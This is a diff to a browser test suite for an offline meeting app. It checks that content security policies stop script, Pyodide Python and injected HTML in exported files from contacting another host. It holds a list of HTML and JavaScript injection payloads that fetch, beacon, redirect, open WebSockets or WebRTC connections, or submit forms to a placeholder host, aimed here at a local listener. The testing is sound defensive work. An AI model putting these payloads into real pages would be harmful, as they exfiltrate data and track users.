@@ -2,20 +2,38 @@
 
 A second host on this machine counts what it gets. It must get nothing, on the very first visit, which no service worker
 sees, and later. The attempts themselves are proven on a page without our policy, where the same host gets them all.
+
+The files that go out are opened from the disk, where no host says anything: what is typed in them is words, and what
+somebody writes into them as markup meets the policy that each brings along. What no policy refuses (a script that runs
+in spite of it goes to another address, or calls by WebRTC) is told in `docs/threat-model.md`.
 """
 
 from __future__ import annotations
 
 import json
+import socket
+import threading
 import time
 from collections.abc import Iterator
+from contextlib import suppress
 from pathlib import Path
-from typing import Any
+from typing import Any, Final
 
 import pytest
 from playwright.sync_api import ConsoleMessage, Page, expect
 
 from building import distribution
+from sos_core.contributions.contribution import Contribution
+from sos_core.copies import Copy
+from sos_core.files import write_json
+from sos_core.language import Language
+from sos_core.model.conclusions import Audience
+from sos_core.model.meanings import Means, changed
+from sos_core.model.meeting import Meeting
+from sos_core.record import Telling, render
+from sos_core.report_page import render_contribution
+from tests.attacks.payloads import fields, rounds
+from tests.attacks.test_payloads import CHILD, WHOLE, one_report
 from tests.browser.conftest import wait_until_ready
 from tests.browser.watching import Watch
 from tests.static_host import StaticHost
@@ -68,6 +86,30 @@ IN_JAVASCRIPT = """async (other) => {
       document.body.append(link);
       link.click();
     });
+    await attempt("form-away", () => {
+      const form = Object.assign(document.createElement("form"), { action: other + "form-away", target: "_blank" });
+      document.body.append(form);
+      form.requestSubmit();
+    });
+    for (const tag of ["image", "feImage", "script"]) {
+      await attempt(`svg-${tag}`, () => {
+        const [svg, element] = ["svg", tag].map((name) => document.createElementNS("http://www.w3.org/2000/svg", name));
+        element.setAttribute("href", `${other}svg-${tag}`);
+        svg.append(element);
+        document.body.append(svg);
+        return ended(element);
+      });
+    }
+    await attempt("adopted-style", () => {
+      const sheet = new CSSStyleSheet();
+      sheet.replaceSync(`body { list-style-image: url("${other}adopted") }`);
+      document.adoptedStyleSheets = [sheet];
+    });
+    await attempt("imported-style", () => {
+      const style = document.createElement("style");
+      style.textContent = `@import url("${other}imported-style");`;
+      document.body.append(style);
+    });
     await attempt("inline-style", () => {
       const style = document.createElement("style");
       style.textContent = `body { background: url("${other}background") }`;
@@ -117,6 +159,11 @@ async def _probe():
             connection.sendall(b"GET /python-socket HTTP/1.0\\r\\n\\r\\n")
             return connection.recv(10)
 
+    def pyfetched():
+        from pyodide.http import pyfetch
+
+        return pyfetch(other + "python-pyfetch", mode="no-cors")
+
     def by_package():
         import pyodide_js
 
@@ -125,6 +172,7 @@ async def _probe():
     get, post = options(mode="no-cors"), options(mode="no-cors", method="POST", body="secret")
     await attempt("fetch", lambda: js.fetch(other + "python-fetch", get))
     await attempt("post", lambda: js.fetch(other + "python-post", post))
+    await attempt("pyfetch", pyfetched)
     await attempt("xhr", xhr)
     await attempt("websocket", lambda: js.WebSocket.new(other.replace("http", "ws") + "python-websocket"))
     await attempt("events", lambda: js.EventSource.new(other + "python-events"))
@@ -171,6 +219,7 @@ def test_the_attempts_reach_the_other_host_where_no_policy_stands(
         end = time.monotonic() + 10
         wanted = {"/fetch", "/xhr", "/socket", "/events", "/module.js", "/image", "/frame", "/style", "/script"}
         wanted |= {"/eval", "/function", "/background", "/object", "/video", "/prefetch", "/preload", "/keepalive"}
+        wanted |= {"/svg-image", "/svg-script", "/imported-style"}
         while not wanted <= set(other.requests) and time.monotonic() < end:
             page.wait_for_timeout(100)
         assert wanted <= set(other.requests)
@@ -230,9 +279,173 @@ def test_python_in_the_worker_does_not_reach_another_origin(
                 page.wait_for_timeout(100)
             assert probed, f"Python did not tell what came of its attempts ({visit} visit)."
             tried = probed.pop()
-            assert len(tried) == 10
-            for name in ("fetch", "post", "xhr", "importScripts", "eval", "socket"):
+            assert len(tried) == 11
+            for name in ("fetch", "pyfetch", "post", "xhr", "importScripts", "eval", "socket"):
                 assert "refused" in tried[name], tried
             assert other.requests == []
             if visit == "first":
                 expect(page.locator("#offline")).to_contain_text("Works without a network")
+
+
+TYPED: Final = (
+    '<meta http-equiv="refresh" content="0;url=OTHERrefresh">',
+    '<link rel="stylesheet" href="OTHERstyle">',
+    '<link rel="preconnect" href="OTHER"><link rel="dns-prefetch" href="OTHER">',
+    '<link rel="prefetch" href="OTHERprefetch"><link rel="preload" as="image" href="OTHERpreload">',
+    '<style>@import url("OTHERimported");</style>',
+    '<style>* { background: url("OTHERbackground") }</style>',
+    '<p style="background: url(OTHERattribute)">x</p>',
+    '<img src="OTHERimage" srcset="OTHERset 2x">',
+    '<svg><image href="OTHERsvg-image"/><use href="OTHERsvg-use#x"/></svg>',
+    '<svg><script href="OTHERsvg-script"></script></svg>',
+    '<svg><style>@import url("OTHERsvg-imported");</style></svg>',
+    '<script src="OTHERscript"></script>',
+    '<script>open("OTHERopened"); location = "OTHERlocation"</script>',
+    '<script>navigator.sendBeacon("OTHERbeacon", "x"); new EventSource("OTHERevents")</script>',
+    '<script>fetch("OTHERfetch", { mode: "no-cors" }); new WebSocket("OTHERsocket")</script>',
+    '<script>new RTCPeerConnection({ iceServers: [{ urls: "stun:PLACE" }] })</script>',
+    '<iframe src="OTHERframe"></iframe><object data="OTHERobject"></object>',
+    '<video src="OTHERvideo" poster="OTHERposter"></video><audio src="OTHERaudio"></audio>',
+    '<form action="OTHERform" target="_blank"><button autofocus>x</button></form>',
+    '<input type="image" src="OTHERinput"><body background="OTHERbody">',
+    '<base href="OTHER"><a href="x" ping="OTHERping">x</a>',
+)
+"""What asks for something from elsewhere as soon as it is markup."""
+ONLY_WORDS: Final = frozenset({TYPED[0]})
+"""What no policy has a word for: as markup it is obeyed. Whoever could write it could leave the policy out, too."""
+ASKED: Final = {"style", "prefetch", "imported", "background", "attribute", "image", "script", "beacon", "fetch"}
+ASKED |= {"frame", "object", "video", "poster", "input", "svg-image", "svg-script", "svg-imported", "form"}
+"""What it asks for where no policy stands."""
+
+
+class Listening:
+    """A place that nobody has a reason to call. Whoever does is noted, also where they say nothing."""
+
+    def __init__(self) -> None:
+        self.heard: list[bytes] = []
+        self._calls, self._packets = socket.socket(), socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        self._calls.bind(("127.0.0.1", 0))
+        self.place = f"127.0.0.1:{self._calls.getsockname()[1]}"
+        self._packets.bind(self._calls.getsockname())
+        self._calls.listen(100)
+        for listen in (self._taken, self._received):
+            threading.Thread(target=listen, daemon=True).start()
+
+    def typed(self, *, without: frozenset[str] = frozenset()) -> list[str]:
+        address = f"http://{self.place}/"
+        kept = [text for text in TYPED if text not in without]
+        return [text.replace("OTHER", address).replace("PLACE", self.place) for text in kept]
+
+    @property
+    def paths(self) -> set[str]:
+        return {said.split(b" ")[1].decode()[1:].partition("?")[0] for said in self.heard if said.count(b" ") > 1}
+
+    def _taken(self) -> None:
+        with suppress(OSError):
+            while True:
+                call, _ = self._calls.accept()
+                call.settimeout(1)
+                try:
+                    self.heard.append(call.recv(2_000))
+                except OSError:
+                    self.heard.append(b"")
+                call.close()
+
+    def _received(self) -> None:
+        with suppress(OSError):
+            while True:
+                self.heard.append(self._packets.recv(2_000))
+
+    def close(self) -> None:
+        for one in (self._calls, self._packets):
+            with suppress(OSError):
+                one.shutdown(socket.SHUT_RDWR)
+            one.close()
+
+
+@pytest.fixture
+def listening() -> Iterator[Listening]:
+    made = Listening()
+    yield made
+    made.close()
+
+
+def hostile(listening: Listening) -> Meeting:
+    """One that has each of these in a text of its own, many times over."""
+    assert len(fields(WHOLE)) > 3 * len(TYPED)
+    meeting, _ = next(iter(rounds(WHOLE, listening.typed())))
+    return meeting
+
+
+def going_out(meeting: Meeting) -> dict[str, str]:
+    """Each sort of file that people open."""
+    t, whole = Language(), Copy(meeting, Audience.WHOLE)
+    report = changed(one_report(), lambda _: meeting.statements[0].text, Means.TEXT)
+    assert isinstance(report, Contribution)
+    return {
+        **{f"{telling}": render(whole, t, telling) for telling in Telling},
+        "child": render(Copy(meeting, Audience.CHILD, reader=CHILD), t),
+        "report": render_contribution(report, t),
+    }
+
+
+def test_what_is_typed_asks_nobody_for_anything_in_a_file_that_is_opened(
+    page: Page, listening: Listening, tmp_path: Path
+) -> None:
+    for name, text in going_out(hostile(listening)).items():
+        assert listening.place in text
+        file = tmp_path / f"{name}.html"
+        file.write_text(text, "utf-8", newline="\n")
+        page.goto(file.as_uri())
+        page.wait_for_timeout(300)
+        assert page.url == file.as_uri()
+    assert listening.heard == []
+    assert len(page.context.pages) == 1
+
+
+def test_what_somebody_writes_into_a_file_as_markup_is_refused_by_its_own_policy(
+    page: Page, listening: Listening, watch: Watch, tmp_path: Path
+) -> None:
+    watch.allow(".")
+    markup = "".join(listening.typed(without=ONLY_WORDS))
+
+    def opened(text: str, name: str) -> None:
+        file = tmp_path / f"{name}.html"
+        file.write_text(text, "utf-8", newline="\n")
+        page.goto(file.as_uri(), wait_until="commit")
+        page.locator("form[target=_blank]").first.evaluate("(form) => form.submit()")
+        page.wait_for_timeout(1_500)
+
+    for name, text in going_out(WHOLE).items():
+        assert text.count("</body>") == 1
+        opened(text.replace("</body>", f"{markup}</body>"), name)
+        # For a frame and a form the browser calls before it asks the policy, and then says nothing.
+        assert not any(listening.heard), (name, listening.heard)
+    # A script that goes elsewhere at once would be the only one to do anything.
+    still = markup.replace("location =", "0,")
+    opened(f"<!doctype html><title>Open</title><body>{still}", "open")
+    end = time.monotonic() + 20
+    while not listening.paths >= ASKED and time.monotonic() < end:
+        page.wait_for_timeout(100)
+    assert listening.paths >= ASKED, ASKED - listening.paths
+
+
+def test_a_meeting_that_is_brought_in_asks_nobody_for_anything_on_the_board(
+    page: Page, server: StaticHost, listening: Listening, tmp_path: Path
+) -> None:
+    file = tmp_path / "meeting.json"
+    file.write_text(write_json(Copy(hostile(listening), Audience.WHOLE)), "utf-8")
+    page.goto(server.address)
+    wait_until_ready(page)
+    page.get_by_label("Choose a file").set_input_files(file)
+    page.get_by_role("button", name="Put it on this device").click()
+    page.get_by_role("navigation").get_by_role("button").first.wait_for()
+    for part in page.get_by_role("navigation").get_by_role("button").all():
+        part.click()
+        page.wait_for_timeout(200)
+    with page.expect_popup() as popup:
+        page.get_by_role("button", name="Projector", exact=True).click()
+    popup.value.locator("body[data-wall=shown]").wait_for()
+    popup.value.wait_for_timeout(300)
+    assert listening.heard == []
+    assert len(page.context.pages) == 2
